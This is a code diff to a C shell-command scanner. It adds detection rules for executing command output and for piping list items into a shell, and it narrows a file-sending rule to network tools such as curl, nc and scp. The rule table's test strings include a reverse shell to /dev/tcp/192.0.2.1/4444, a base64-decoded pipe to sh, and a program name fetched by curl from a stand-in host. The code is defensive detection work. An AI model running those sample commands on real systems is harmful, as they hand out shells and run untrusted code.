@@ -20,10 +20,9 @@ static bool network_is_installer(const struct shell_model *m, const struct shell
 	bool has_other = false, has_known = false;
 
 	for (size_t i = 0; i < m->n; i++) {
-		struct net_host hosts[8];
-		size_t n = net_hosts(m, &m->commands[i], hosts, 8);
+		const struct net_host *hosts = m->commands[i].hosts;
 
-		for (size_t k = 0; k < n; k++) {
+		for (size_t k = 0; k < m->commands[i].n_hosts; k++) {
 			bool is_known = net_is_local(&hosts[k]);
 
 			for (size_t j = 0; j < sizeof(network_installers) / sizeof(network_installers[0]); j++)
@@ -68,6 +67,13 @@ static bool network_substituted(const struct shell_model *m, const struct shell_
 {
 	(void)m;
 	return c->n > 0 && (c->argv[0].taint & (TAINT_REMOTE | TAINT_DECODED));
+}
+
+/* `id`: the output of a command is run as a command */
+static bool network_output(const struct shell_model *m, const struct shell_command *c)
+{
+	(void)m;
+	return c->n > 0 && (c->argv[0].taint & TAINT_IDENTITY) && (c->argv[0].flags & WORD_UNKNOWN);
 }
 
 /* A shell whose streams are a connection. */
@@ -133,7 +139,8 @@ static bool network_archive(const struct shell_model *m, const struct shell_comm
 
 static bool network_each(const struct shell_model *m, const struct shell_command *c)
 {
-	return (c->sends & TAINT_FILE) && (c->via & (VIA_EACH | VIA_LOOP)) && !rule_is_local(m, c);
+	return (c->sends & TAINT_FILE) && (c->via & (VIA_EACH | VIA_LOOP)) && !rule_is_local(m, c) &&
+	       rule_is("curl wget http nc ncat scp", c->name);
 }
 
 /* Data that is thrown at a place where anybody can pick it up. */
@@ -190,6 +197,18 @@ static bool network_exec_listen(const struct shell_model *m, const struct shell_
 	return false;
 }
 
+/* xargs sh, parallel bash -c {}: each line is code */
+static bool network_items(const struct shell_model *m, const struct shell_command *c)
+{
+	(void)m;
+	if (!rule_is_shell(c->name) || !(c->via & VIA_EACH))
+		return false;
+	for (size_t i = 1; i < c->n && i < 3; i++)
+		if (c->argv[i].flags & WORD_ITEM)
+			return true;
+	return false;
+}
+
 #define ROW(kind, conf, lev) .type = FINDING_##kind, .level = THREAT_##lev, .confidence = conf
 
 static const struct shell_rule network_rows[] = {
@@ -203,8 +222,12 @@ static const struct shell_rule network_rows[] = {
 	 .test = network_decoded, .hit = "echo aWQK | base64 -d | sh", .miss = "echo aWQK | base64 -d"},
 	{.id = "CMD-INPUT-RUN", .reason = "It runs whatever somebody sends.", ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
 	 .test = network_input, .hit = "while read l; do bash -c \"$l\"; done", .miss = "while read l; do echo \"$l\"; done"},
+	{.id = "CMD-EACH-RUN", .reason = "It runs each line of a list as code.", ROW(DANGEROUS_PATTERN, 0.4, LOW),
+	 .test = network_items, .hit = "find . | xargs sh", .miss = "find . | xargs -I{} sh -c 'wc -l {}'"},
 	{.id = "CMD-NAME-HIDDEN", .reason = "The name of its program comes from the network or a decoder.", ROW(DANGEROUS_PATTERN, 0.75, HIGH),
 	 .test = network_substituted, .hit = "$(curl http://a.example/x)", .miss = "$(which ls) -l"},
+	{.id = "CMD-OUTPUT-RUN", .reason = "It runs what another command prints about the machine.", ROW(DANGEROUS_PATTERN, 0.4, LOW),
+	 .test = network_output, .hit = "`id`", .miss = "id"},
 	{.id = "CMD-REVERSE-SHELL", .reason = "It gives a shell to whoever is at the other end of a connection.", ROW(NETWORK_ACCESS, 0.95, CRITICAL),
 	 .test = network_shell, .hit = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", .miss = "bash -i"},
 	{.id = "CMD-PIPED-SHELL", .reason = "It gives a shell to whoever is at the other end of a connection.", ROW(NETWORK_ACCESS, 0.95, CRITICAL),
